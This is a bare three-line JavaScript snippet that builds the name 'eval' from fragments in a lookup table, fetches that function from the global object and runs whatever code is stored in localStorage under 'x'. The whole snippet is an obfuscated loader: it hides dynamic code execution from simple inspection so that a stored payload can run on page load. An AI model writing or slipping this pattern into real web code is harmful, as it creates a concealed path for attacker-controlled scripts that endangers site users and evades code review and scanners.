const table = new Map(JSON.parse('[["a","ev"],["b","al"]]'));
const run = self[table.get('a') + table.get('b')];
run(localStorage.getItem('x'));
